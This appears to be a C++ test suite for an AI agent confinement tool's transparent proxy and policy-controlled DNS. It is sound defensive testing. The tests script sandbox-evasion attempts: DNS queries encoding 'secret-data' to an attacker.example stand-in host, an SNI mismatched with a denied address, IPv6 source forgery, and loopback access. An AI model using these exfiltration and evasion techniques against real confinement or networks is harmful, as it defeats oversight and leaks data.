// The transparent door end to end (issue 16, docs/transparent.md) under the real `acp run
// --door=both`: real clients that ignore proxy settings (curl --noproxy '*', Node 20's fetch,
// openssl s_client) inside the confined agent, against origins in a test host's network
// namespace (the door refuses loopback destinations), with the real policy and audit log.
#include <algorithm>
#include <chrono>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <nlohmann/json.hpp>

#include "support/run_fixture.hpp"
#include "support/wall_fixture.hpp"

namespace {

using acp::vmtest::free_port;
using acp::vmtest::NetnsHost;
using acp::vmtest::Proc;
using acp::vmtest::slurp;

class RunTransparent : public acp::vmtest::RunFixture {
 protected:
  void SetUp() override {
    RunFixture::SetUp();
    if (IsSkipped()) return;
    auto h = NetnsHost::create();
    ASSERT_TRUE(h.ok()) << h.error().message();
    host_ = std::move(*h);
    origin_wrapper_ = {"ip", "netns", "exec", host_->name()};
  }

  // "http://10.200.N.2:port/"
  std::string url4(const char* scheme, uint16_t port) const {
    return std::string(scheme) + "://" + host_->addr4() + ":" + std::to_string(port) + "/";
  }
  // default deny; allow the test host's IPv4 address on each port.
  std::string allow_ports(const std::vector<uint16_t>& ports) {
    std::string y = "default: deny\nrules:\n";
    for (auto p : ports)
      y += "  - match: { kind: http, host: \"" + host_->addr4() + "\", port: " + std::to_string(p) +
           " }\n    action: allow\n";
    return write_policy("policy.yml", y);
  }

  std::unique_ptr<NetnsHost> host_;
};

TEST_F(RunTransparent, ClientsWithoutProxySettingsReachAllowedOriginsAndNotDeniedOnes) {
  const uint16_t plain = free_port(), tls = free_port(), denied = free_port();
  ASSERT_TRUE(start_origin(plain, host_->addr4()));
  ASSERT_TRUE(start_tls_origin(tls, host_->addr4()));
  ASSERT_TRUE(start_origin(denied, host_->addr4()));
  const auto policy = allow_ports({plain, tls});
  const std::string node_fetch =
      "fetch(process.argv[1]).then(r => r.text()).then(t => console.log('NODE:' + t.trim()))"
      ".catch(e => { console.log('NODE-FAILED:' + e.message); })";
  const std::string script = "curl --noproxy '*' -sS -m 20 " + url4("http", plain) +
                             " | sed 's/^/PLAIN:/'; " + "curl --noproxy '*' -ksS -m 20 " +
                             url4("https", tls) + " | sed 's/^/TLS:/'; " + "node -e \"$0\" " +
                             url4("http", plain) + "; " + "curl --noproxy '*' -fsS -m 20 " +
                             url4("http", denied) + " || echo DENIED-REFUSED";
  auto r = acp::vmtest::run(acp_run(policy, {"sh", "-c", script, node_fetch}, {"--door=both"}));
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_NE(r.out.find("PLAIN:origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("TLS:origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("NODE:origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("DENIED-REFUSED"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("EPERM"), std::string::npos) << r.out;
  // Judged by the original address (no SNI for an IP, no name in the Host), audited as led in:
  // TLS as a CONNECT, plain HTTP as its requests (no CONNECT judged first); the denied one
  // refused by the policy.
  for (auto [port, method] : {std::pair{plain, "GET"}, std::pair{tls, "CONNECT"}}) {
    auto entries = transparent_requests(host_->addr4(), port);
    ASSERT_FALSE(entries.empty()) << "no transparent audit entry for port " << port;
    for (const auto& e : entries) {
      EXPECT_EQ(e["action"]["method"], method) << e.dump();
      EXPECT_EQ(e["verdict"], "allow") << e.dump();
    }
  }
  auto refused = transparent_requests(host_->addr4(), denied);
  ASSERT_FALSE(refused.empty());
  EXPECT_EQ(refused.front()["verdict"], "deny");
}

// The other clients, without proxy settings: Node's https.get (TLS, its own
// transport), python's urllib with its proxies switched off (ProxyHandler({})), and a protocol
// whose server speaks first (an ssh-like banner, judged by the original address once the client
// has stayed silent for 300 ms): each reaches an allowed origin, and the denied one gets
// nothing of it; every one audited as led in.
TEST_F(RunTransparent, NodeHttpsGetPythonWithoutProxiesAndAServerSpeaksFirstProtocol) {
  const uint16_t plain = free_port(), tls = free_port(), banner = free_port(),
                 denied_banner = free_port();
  ASSERT_TRUE(start_origin(plain, host_->addr4()));
  ASSERT_TRUE(start_tls_origin(tls, host_->addr4()));
  // The banner servers: speak first, then echo one line back.
  const std::string server =
      "import socket, sys\n"
      "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
      "s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8)\n"
      "while True:\n"
      "    c, _ = s.accept()\n"
      "    try:\n"
      "        c.sendall(b'SSH-2.0-acp-test\\r\\n')\n"
      "        d = c.recv(100)\n"
      "        if d: c.sendall(b'ECHO ' + d)\n"
      "    except OSError:\n"
      "        pass\n"
      "    c.close()\n";
  for (uint16_t port : {banner, denied_banner}) {
    auto argv = origin_wrapper_;
    argv.insert(argv.end(), {"python3", "-c", server, host_->addr4(), std::to_string(port)});
    extra_origins_.push_back(  // stopped with the fixture's origins
        Proc::start(argv, dir_ + "/banner-" + std::to_string(port) + ".out"));
  }
  for (uint16_t port : {banner, denied_banner})
    for (int i = 0; i < 100 && !acp::vmtest::port_answers(port, host_->addr4()); ++i)
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
  const auto policy = allow_ports({plain, tls, banner});
  const std::string node =
      "require('https').get(process.argv[1], {rejectUnauthorized: false}, r => {"
      " let b = ''; r.on('data', d => b += d); r.on('end', () => console.log('NODEGET:' + "
      "b.trim())); }).on('error', e => console.log('NODEGET-FAILED:' + e.message))";
  const std::string py =
      "import socket, sys, urllib.request\n"
      "o = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
      "print('PY:' + o.open(sys.argv[1], timeout=20).read().decode().strip())\n"
      "for tag, port in (('BANNER', int(sys.argv[3])), ('DENIED', int(sys.argv[4]))):\n"
      "    c = socket.create_connection((sys.argv[2], port), timeout=10)\n"
      "    try:\n"
      "        hello = c.recv(100)\n"
      "        c.sendall(b'hi\\n')\n"
      "        print(tag + ':' + repr(hello + c.recv(100)))\n"
      "    except OSError as e:\n"
      "        print(tag + '-FAILED:' + str(e))\n";
  const std::string script = "node -e \"$0\" " + url4("https", tls) + "; python3 -c \"$1\" " +
                             url4("http", plain) + " " + host_->addr4() + " " +
                             std::to_string(banner) + " " + std::to_string(denied_banner);
  auto r = acp::vmtest::run(acp_run(policy, {"sh", "-c", script, node, py}, {"--door=both"}));
  EXPECT_NE(r.out.find("NODEGET:origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("PY:origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("BANNER:b'SSH-2.0-acp-test\\r\\nECHO hi\\n'"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("SSH-2.0-acp-test", r.out.find("DENIED")), std::string::npos)
      << "the denied banner service reached: " << r.out;
  EXPECT_NE(r.out.find("DENIED"), std::string::npos) << r.out;
  // Audited as led in: the TLS one as a CONNECT by its address, the plain one as its GET, the
  // banner services as CONNECTs judged by the original address, allowed and denied.
  for (auto [port, verdict] : {std::pair{tls, "allow"}, std::pair{plain, "allow"},
                               std::pair{banner, "allow"}, std::pair{denied_banner, "deny"}}) {
    auto entries = transparent_requests(host_->addr4(), port);
    ASSERT_FALSE(entries.empty()) << "no transparent audit entry for port " << port << "\n"
                                  << r.out;
    EXPECT_EQ(entries.front()["verdict"], verdict) << port;
  }
}

TEST_F(RunTransparent, AnAllowedSniSentToADeniedAddressReachesTheAllowedAddressOnly) {
  // The TLS origin listens on the test host's IPv4 address only; the agent dials its IPv6
  // address (denied: no rule names it), naming the allowed IPv4 address in its SNI. Only a
  // proxy that dials the judged name, not the original, reaches an origin at all.
  const uint16_t tls = free_port();
  ASSERT_TRUE(start_tls_origin(tls, host_->addr4()));
  const auto policy = allow_ports({tls});
  const std::string script =
      "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet "
      "-connect '[" +
      host_->addr6() + "]:" + std::to_string(tls) + "' -servername " + host_->addr4() + " 2>&1";
  auto r = acp::vmtest::run(acp_run(policy, {"sh", "-c", script}, {"--door=both"}));
  EXPECT_NE(r.out.find("origin says hello"), std::string::npos) << r.out;
  auto entries = transparent_requests(host_->addr4(), tls);
  ASSERT_FALSE(entries.empty()) << r.out;
  EXPECT_EQ(entries.front()["verdict"], "allow");
  EXPECT_TRUE(transparent_requests(host_->addr6(), tls).empty());
}

// Issue 16 point 3: the agent's DNS is answered by the session, by the policy. A raw query
// to an address nothing answers at (TEST-NET-1) gets its reply as from that address, with a
// synthetic address for an allowed name and NXDOMAIN for one the policy denies; glibc's
// resolver (getent) takes the same answers. A connection to the synthetic address is judged
// as the name looked up, reaches the origin the proxy resolves for that name, and a Host that
// names another is refused. acp's own /etc/hosts (a private mount) names the origin, so only
// the proxy can resolve it: the agent's lookups all go to the session's DNS.
TEST_F(RunTransparent, DnsIsAnsweredByThePolicyAndTheDoorJudgesTheNameLookedUp) {
  const uint16_t plain = free_port();
  ASSERT_TRUE(start_origin(plain, host_->addr4()));
  const auto policy = write_policy("policy.yml",
                                   "default: deny\nrules:\n"
                                   "  - match: { kind: http, host: \"allowed.test\" }\n"
                                   "    action: allow\n"
                                   "  - match: { kind: http, host: \"*.allowed.test\" }\n"
                                   "    action: allow\n");
  const std::string hosts = dir_ + "/hosts";
  {
    std::ofstream h(hosts);
    h << "127.0.0.1 localhost\n::1 localhost\n" << host_->addr4() << " allowed.test\n";
  }
  const std::string py =
      "import socket, struct, sys\n"
      "def ask(name, qtype=1):\n"
      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "    s.settimeout(5)\n"
      "    q = struct.pack('>HHHHHH', 0xabcd, 0x0100, 1, 0, 0, 0)\n"
      "    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n"
      "    s.sendto(q + struct.pack('>HH', qtype, 1), ('192.0.2.53', 53))\n"
      "    data, src = s.recvfrom(2048)\n"
      "    an = struct.unpack('>H', data[6:8])[0]\n"
      "    ip = socket.inet_ntoa(data[-4:]) if an and qtype == 1 else '-'\n"
      "    return data[3] & 15, '%s:%d' % src, ip\n"
      "rc, src, ip = ask('allowed.test')\n"
      "print('ALLOWED rcode=%d from=%s ip=%s' % (rc, src, ip))\n"
      "rc, src, _ = ask('secret-data.attacker.example')\n"
      "print('SECRET rcode=%d from=%s' % (rc, src))\n"
      "def ask_tcp(name, server):\n"
      "    c = socket.create_connection((server, 53), timeout=5)\n"
      "    q = struct.pack('>HHHHHH', 0x4321, 0x0100, 1, 0, 0, 0)\n"
      "    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n"
      "    q += struct.pack('>HH', 1, 1)\n"
      "    c.sendall(struct.pack('>H', len(q)) + q)\n"
      "    n = struct.unpack('>H', c.recv(2))[0]\n"
      "    d = b''\n"
      "    while len(d) < n: d += c.recv(n - len(d))\n"
      "    return d[3] & 15, '%s:%d' % c.getpeername()[:2]\n"
      "print('TCP-ALLOWED rcode=%d peer=%s' % ask_tcp('allowed.test', '192.0.2.53'))\n"
      "print('TCP-SECRET rcode=%d peer=%s' % ask_tcp('secret.attacker.example', '127.0.0.53'))\n"
      "s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
      "s6.settimeout(5)\n"
      "q6 = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\\x07allowed\\x04test\\0'\n"
      "s6.sendto(q6 + struct.pack('>HH', 28, 1), ('2001:db8::53', 53))\n"
      "d6, src6 = s6.recvfrom(2048)\n"
      "print('UDP6 rcode=%d from=[%s]:%d ip=%s' % (d6[3] & 15, src6[0], src6[1],\n"
      "      socket.inet_ntop(socket.AF_INET6, d6[-16:])))\n"
      "def get(host):\n"
      "    c = socket.create_connection((ip, int(sys.argv[1])), timeout=20)\n"
      "    c.sendall(b'GET / HTTP/1.0\\r\\nHost: ' + host.encode() + b'\\r\\n\\r\\n')\n"
      "    out = b''\n"
      "    while True:\n"
      "        b = c.recv(4096)\n"
      "        if not b: break\n"
      "        out += b\n"
      "    return out.decode(errors='replace').replace('\\r\\n', ' ')\n"
      "print('NAMED ' + get('allowed.test'))\n"
      "print('OTHER ' + get('evil.test'))\n";
  const std::string script =
      "getent ahostsv4 api.allowed.test | head -1 | sed 's/^/GETENT:/'; "
      "getent hosts denied.example || echo GETENT-NXDOMAIN; "
      "/usr/bin/python3 -c \"$0\" " +
      std::to_string(plain);
  // acp in a mount namespace of its own where /etc/hosts names the origin.
  auto r = acp::vmtest::run(acp::vmtest::with_own_etc_files(
      hosts, acp_run(policy, {"sh", "-c", script, py}, {"--door=both"})));
  EXPECT_NE(r.out.find("ALLOWED rcode=0 from=192.0.2.53:53 ip=198.18."), std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("SECRET rcode=3 from=192.0.2.53:53"), std::string::npos) << r.out;
  // Over TCP too (the door answers port 53 itself, loopback resolvers included), and IPv6.
  EXPECT_NE(r.out.find("TCP-ALLOWED rcode=0 peer=192.0.2.53:53"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("TCP-SECRET rcode=3 peer=127.0.0.53:53"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("UDP6 rcode=0 from=[2001:db8::53]:53 ip=fd61:6370:646e::"),
            std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("GETENT:198.18."), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("GETENT-NXDOMAIN"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("the agent looked up allowed.test"), std::string::npos) << r.out;
  auto entries = transparent_requests("allowed.test", plain);
  ASSERT_FALSE(entries.empty()) << r.out;
  EXPECT_EQ(entries.front()["verdict"], "allow");
  EXPECT_TRUE(transparent_requests("evil.test", plain).empty());
}

// The proof that DNS is closed as a channel: acp's resolver (its own resolv.conf, a
// private mount) is a logging DNS server in the test host's namespace. The agent looks up a
// denied name, an allowed one, one the human approves and one the human refuses: the logging
// resolver sees no query for the denied or refused names, and the approved name only once the
// human said yes (the proxy resolves it for the connection, after the judgement).
TEST_F(RunTransparent, NoQueryLeavesForADeniedOrRefusedNameAndAnApprovedOneOnlyAfterApproval) {
  const uint16_t plain = free_port();
  ASSERT_TRUE(start_origin(plain, host_->addr4()));
  const std::string log = dir_ + "/resolver.log";
  const std::string server =
      "import socket, struct, sys\n"
      "addr, log = sys.argv[1], sys.argv[2]\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "s.bind((addr, 53))\n"
      "open(log, 'a').write('READY\\n')\n"
      "ip = socket.inet_aton(addr)\n"
      "while True:\n"
      "    d, src = s.recvfrom(2048)\n"
      "    i, labels = 12, []\n"
      "    while d[i]:\n"
      "        labels.append(d[i + 1:i + 1 + d[i]].decode())\n"
      "        i += 1 + d[i]\n"
      "    qtype = struct.unpack('>H', d[i + 1:i + 3])[0]\n"
      "    with open(log, 'a') as f: f.write('Q %s %d\\n' % ('.'.join(labels).lower(), qtype))\n"
      "    q = d[12:i + 5]\n"
      "    an = struct.pack('>HHIH', 1, 1, 60, 4) + ip if qtype == 1 else b''\n"
      "    r = d[:2] + b'\\x81\\x80' + struct.pack('>HHHH', 1, 1 if an else 0, 0, 0) + q\n"
      "    s.sendto(r + (b'\\xc0\\x0c' + an if an else b''), src)\n";
  extra_origins_.push_back(Proc::start(
      {"ip", "netns", "exec", host_->name(), "/usr/bin/python3", "-c", server, host_->addr4(), log},
      dir_ + "/resolver.out"));
  for (int i = 0; i < 100 && slurp(log).find("READY") == std::string::npos; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  ASSERT_NE(slurp(log).find("READY"), std::string::npos) << slurp(dir_ + "/resolver.out");
  {
    std::ofstream(dir_ + "/resolv.conf") << "nameserver " << host_->addr4() << "\n";
    std::ofstream(dir_ + "/hosts") << "127.0.0.1 localhost\n::1 localhost\n";
  }
  const auto policy = write_policy("policy.yml",
                                   "default: deny\nrules:\n"
                                   "  - match: { kind: http, host: \"allowed.test\" }\n"
                                   "    action: allow\n"
                                   "  - match: { kind: http, host: \"asked.test\" }\n"
                                   "    action: ask\n"
                                   "  - match: { kind: http, host: \"refused.test\" }\n"
                                   "    action: ask\n");
  const std::string port = std::to_string(plain);
  const std::string script =
      "getent hosts denied.test || echo DENIED-NXDOMAIN; "
      "curl --noproxy '*' -sS -m 20 http://allowed.test:" +
      port +
      "/ | sed 's/^/ALLOWED:/'; "
      "curl --noproxy '*' -sS -m 30 http://asked.test:" +
      port +
      "/ | sed 's/^/ASKED:/'; "
      "curl --noproxy '*' -sS -m 30 http://refused.test:" +
      port + "/ | sed 's/^/REFUSED:/'";
  Proc agent = Proc::start(acp::vmtest::with_own_etc_files(
      dir_ + "/hosts", acp_run(policy, {"sh", "-c", script}, {"--door=both"}),
      dir_ + "/resolv.conf"));
  const std::string asked = wait_for_pending_id();
  ASSERT_FALSE(asked.empty()) << "no pending request for asked.test";
  // The human is asked about the request itself, as through the explicit proxy: a GET, not a
  // CONNECT for the connection with the GET asked again behind it.
  const auto shown = pending();
  ASSERT_TRUE(shown.is_array() && !shown.empty()) << shown.dump();
  EXPECT_NE(shown[0].dump().find("GET"), std::string::npos) << shown.dump();
  EXPECT_EQ(shown[0].dump().find("CONNECT"), std::string::npos) << shown.dump();
  // Looked up and connected to, waiting for a human: not resolved for real yet.
  std::string seen = slurp(log);
  EXPECT_NE(seen.find("Q allowed.test 1"), std::string::npos) << seen;
  EXPECT_EQ(seen.find("asked.test"), std::string::npos) << seen;
  // Approved once: one answer is enough for one GET (the next pending request is refused.test's).
  ASSERT_EQ(acp::vmtest::run({ACP_BINARY, "approve", asked}).status, 0);
  std::string refused;
  for (int i = 0; i < 50 && (refused.empty() || refused == asked); ++i) {
    refused = wait_for_pending_id();
    if (refused == asked) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  ASSERT_FALSE(refused.empty());
  ASSERT_NE(refused, asked);
  ASSERT_EQ(acp::vmtest::run({ACP_BINARY, "deny", refused}).status, 0);
  agent.finish();
  EXPECT_NE(agent.out.find("DENIED-NXDOMAIN"), std::string::npos) << agent.out;
  EXPECT_NE(agent.out.find("ALLOWED:origin says hello"), std::string::npos) << agent.out;
  EXPECT_NE(agent.out.find("ASKED:origin says hello"), std::string::npos) << agent.out;
  EXPECT_EQ(agent.out.find("REFUSED:origin says hello"), std::string::npos) << agent.out;
  seen = slurp(log);
  EXPECT_NE(seen.find("Q asked.test 1"), std::string::npos) << seen;  // after the approval
  EXPECT_EQ(seen.find("denied.test"), std::string::npos) << seen;
  EXPECT_EQ(seen.find("refused.test"), std::string::npos) << seen;
}

// An agent that forges its IPv6 source (IPV6_FREEBIND needs no privilege) must not have the
// session's DNS, or the proxy's SYN-ACK, sent to that address off the machine with bytes it
// chose: the wall drops a packet to loopback from a source that is not loopback.
TEST_F(RunTransparent, AForgedIpv6SourceGetsNoReplyFromTheDnsOrTheProxy) {
  const std::string py = std::string(acp::vmtest::kForgedIpv6Source) +
                         "s = freebound(socket.SOCK_DGRAM)\n"
                         "try:\n"
                         "    s.sendto(q, ('2001:db8::53', 53))\n"
                         "    s.recvfrom(2048)\n"
                         "    print('DNS-REPLIED')\n"
                         "except OSError as e:\n"
                         "    print('DNS-NO-REPLY %s' % e)\n"
                         "c = freebound(socket.SOCK_STREAM)\n"
                         "try:\n"
                         "    c.connect(('::1', int(sys.argv[1])))\n"
                         "    print('PROXY-CONNECTED')\n"
                         "except OSError as e:\n"
                         "    print('PROXY-NO-CONNECT %s' % e)\n"
                         "p = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
                         "p.settimeout(5)\n"
                         "p.sendto(q, ('2001:db8::53', 53))\n"
                         "p.recvfrom(2048)\n"
                         "print('CONTROL-ANSWERED')\n";
  const auto policy = write_policy("policy.yml", "default: ask\n");
  auto r = acp::vmtest::run(acp_run(
      policy, {"/usr/bin/python3", "-c", py, std::to_string(proxy_port_)}, {"--door=both"}));
  EXPECT_NE(r.out.find("DNS-NO-REPLY"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("DNS-REPLIED"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("PROXY-NO-CONNECT"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("PROXY-CONNECTED"), std::string::npos) << r.out;
  // The control: the same query from the socket's own address is answered.
  EXPECT_NE(r.out.find("CONTROL-ANSWERED"), std::string::npos) << r.out;
}

// The session's DNS answers its own agent only: a local process outside the session (this
// test, as root) that finds the responder's loopback port gets no answer, while the agent's
// query, sent after it, is answered.
TEST_F(RunTransparent, TheDnsAnswersOnlyTheSessionsOwnAgent) {
  const std::string flag = dir_ + "/go";
  const std::string py =
      "import os, socket, struct, sys, time\n"
      "while not os.path.exists(sys.argv[1]): time.sleep(0.05)\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "s.settimeout(5)\n"
      "q = struct.pack('>HHHHHH', 5, 0x0100, 1, 0, 0, 0) + b'\\x02in\\x04test\\0' + "
      "struct.pack('>HH', 1, 1)\n"
      "s.sendto(q, ('192.0.2.53', 53))\n"
      "d, _ = s.recvfrom(2048)\n"
      "print('AGENT-ANSWERED rcode=%d' % (d[3] & 15))\n";
  const auto policy = write_policy("policy.yml", "default: ask\n");
  Proc acp = Proc::start(acp_run(policy, {"/usr/bin/python3", "-c", py, flag}, {"--door=both"}));
  // acp's UDP sockets on 127.0.0.1: the responder's (ss names the process).
  std::string port;
  for (int i = 0; i < 100 && port.empty(); ++i) {
    auto ss = acp::vmtest::run({"ss", "-Hulnp", "src", "127.0.0.1"});
    std::istringstream lines(ss.out);
    for (std::string line; std::getline(lines, line);) {
      if (line.find("pid=" + std::to_string(acp.pid) + ",") == std::string::npos) continue;
      auto at = line.find("127.0.0.1:");
      if (at != std::string::npos) port = line.substr(at + 10, line.find(' ', at) - at - 10);
    }
    if (port.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  ASSERT_FALSE(port.empty()) << "no UDP socket of acp on 127.0.0.1";
  const std::string outside =
      "import socket, struct, sys\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "s.settimeout(1.5)\n"
      "q = struct.pack('>HHHHHH', 6, 0x0100, 1, 0, 0, 0) + b'\\x03out\\x04test\\0' + "
      "struct.pack('>HH', 1, 1)\n"
      "s.sendto(q, ('127.0.0.1', int(sys.argv[1])))\n"
      "try:\n"
      "    s.recvfrom(2048)\n"
      "    print('OUTSIDER-ANSWERED')\n"
      "except socket.timeout:\n"
      "    print('OUTSIDER-IGNORED')\n";
  auto o = acp::vmtest::run({"/usr/bin/python3", "-c", outside, port});
  std::ofstream(flag) << "go\n";
  acp.finish();
  EXPECT_NE(o.out.find("OUTSIDER-IGNORED"), std::string::npos) << o.out;
  EXPECT_NE(acp.out.find("AGENT-ANSWERED rcode=0"), std::string::npos) << acp.out;
}

TEST_F(RunTransparent, LoopbackDestinationsAreRefusedAndAudited) {
  const auto policy = policy_for_origin("allow");  // even a policy that allows it
  auto r = acp::vmtest::run(acp_run(
      policy, {"sh", "-c", "curl --noproxy '*' -sS -m 20 " + origin_url() + " || echo REFUSED"},
      {"--door=both"}));
  EXPECT_NE(r.out.find("REFUSED"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("origin says hello"), std::string::npos) << r.out;
  bool audited = false;
  for (auto& e : audit_entries())
    audited = audited || (e.value("event", "") == "door_refused" &&
                          e.value("original", "") == "127.0.0.1:" + std::to_string(origin_port_));
  EXPECT_TRUE(audited);
}

TEST_F(RunTransparent, DoorProxyKeepsRefusingWithEperm) {
  const uint16_t plain = free_port();
  ASSERT_TRUE(start_origin(plain, host_->addr4()));
  const auto policy = allow_ports({plain});
  const std::string py =
      "import socket, sys\n"
      "s = socket.socket()\n"
      "try:\n"
      "    s.connect((sys.argv[1], int(sys.argv[2])))\n"
      "    print('CONNECTED')\n"
      "except OSError as e:\n"
      "    print('ERRNO %d' % e.errno)  # one write: acp's stderr shares the pipe\n";
  auto r = acp::vmtest::run(
      acp_run(policy, {"/usr/bin/python3", "-c", py, host_->addr4(), std::to_string(plain)},
              {"--door=proxy"}));
  EXPECT_NE(r.out.find("ERRNO 1"), std::string::npos) << r.out;  // EPERM
  EXPECT_EQ(r.out.find("CONNECTED"), std::string::npos) << r.out;
}

// What a user gets without --door on the bpf backend: both. Node 20's fetch (which ignores
// HTTPS_PROXY) reaches an allowed origin, a denied name is NXDOMAIN, a direct connection to a
// denied port is led in and refused by the policy, not by EPERM.
TEST_F(RunTransparent, TheDefaultDoorIsBothOnBpf) {
  const uint16_t plain = free_port(), denied = free_port();
  ASSERT_TRUE(start_origin(plain, host_->addr4()));
  ASSERT_TRUE(start_origin(denied, host_->addr4()));
  const auto policy = allow_ports({plain});
  const std::string node_fetch =
      "fetch(process.argv[1]).then(r => r.text()).then(t => console.log('NODE:' + t.trim()))"
      ".catch(e => { console.log('NODE-FAILED:' + e.message); })";
  const std::string script = "node -e \"$0\" " + url4("http", plain) +
                             "; getent hosts denied.example || echo NXDOMAIN; "
                             "curl --noproxy '*' -fsS -m 20 " +
                             url4("http", denied) + " || echo DENIED-REFUSED";
  auto argv = acp_run(policy, {"sh", "-c", script, node_fetch});
  argv.erase(std::find(argv.begin(), argv.end(), "--door=proxy"));  // no --door at all
  auto r = acp::vmtest::run(argv);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_NE(r.out.find("NODE:origin says hello"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("NXDOMAIN"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("DENIED-REFUSED"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("EPERM"), std::string::npos) << r.out;
  EXPECT_FALSE(transparent_requests(host_->addr4(), plain).empty()) << r.out;
  auto refused = transparent_requests(host_->addr4(), denied);
  ASSERT_FALSE(refused.empty()) << r.out;
  EXPECT_EQ(refused.front()["verdict"], "deny");
}

}  // namespace
